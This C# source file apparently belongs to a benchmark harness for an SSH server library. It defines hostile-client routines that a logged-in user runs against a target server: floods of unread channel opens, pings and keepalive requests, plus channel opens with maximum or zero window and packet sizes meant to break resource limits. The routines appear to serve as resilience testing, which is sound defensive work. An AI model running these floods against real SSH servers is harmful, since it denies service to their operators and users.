using System.Net.Sockets;
using Adit.Ssh.Messages.Connection;
using Adit.Ssh.Messages.Transport;

namespace Adit.Bench.Attacks;

/// <summary>What a user can do whom the server lets in.</summary>
internal static class UserAttacks
{
    private const int Opens = 100_000;
    private const uint CommonWindow = 2 * 1024 * 1024;
    private const uint CommonPacket = 32 * 1024;

    private static readonly TimeSpan Pause = TimeSpan.FromMilliseconds(100);

    public static async Task UnreadOpensAsync(NetworkStream stream, Victim victim, CancellationToken stop)
    {
        await using HostileClient client = await HostileClient.LogInAsync(stream, victim, stop);
        client.StopReading();
        for (uint i = 0; i < Opens; i++)
            await client.SendAsync(Open(victim, i, CommonWindow, CommonPacket), stop);

        // A stuck end learns of its end only when it sends.
        while (true)
        {
            await client.SendAsync(new Ignore([]), stop);
            await Task.Delay(Pause, stop);
        }
    }

    public static async Task UnreadPingsAsync(NetworkStream stream, Victim victim, CancellationToken stop)
    {
        await using HostileClient client = await HostileClient.LogInAsync(stream, victim, stop);
        client.StopReading();
        byte[] data = new byte[1024];
        while (true)
            await client.SendAsync(new Ping(data), stop);
    }

    public static async Task UnreadRequestsAsync(NetworkStream stream, Victim victim, CancellationToken stop)
    {
        await using HostileClient client = await HostileClient.LogInAsync(stream, victim, stop);
        client.StopReading();
        while (true)
            await client.SendAsync(new GlobalRequest("keepalive@openssh.com", WantReply: true, []), stop);
    }

    // The first adjustment makes more of the window than a number on the wire can say.
    public static async Task AbsurdWindowAsync(NetworkStream stream, Victim victim, CancellationToken stop)
    {
        await using HostileClient client = await HostileClient.LogInAsync(stream, victim, stop);
        await client.SendAsync(Open(victim, uint.MaxValue, uint.MaxValue, uint.MaxValue), stop);
        uint channel = await client.FirstChannel.WaitAsync(stop);
        await client.SendAsync(new ChannelWindowAdjust(channel, uint.MaxValue), stop);
        await client.Ended.WaitAsync(stop);
    }

    public static async Task NoPacketSizeAsync(NetworkStream stream, Victim victim, CancellationToken stop)
    {
        await using HostileClient client = await HostileClient.LogInAsync(stream, victim, stop);
        await client.SendAsync(Open(victim, 0, 0, 0), stop);
        await client.Ended.WaitAsync(stop);
    }

    private static ChannelOpen Open(Victim victim, uint sender, uint window, uint maxPacket) =>
        new(DirectTcpip.ChannelType, sender, window, maxPacket, new DirectTcpip("127.0.0.1", (uint)victim.TargetPort, "127.0.0.1", 1).ToFields());
}
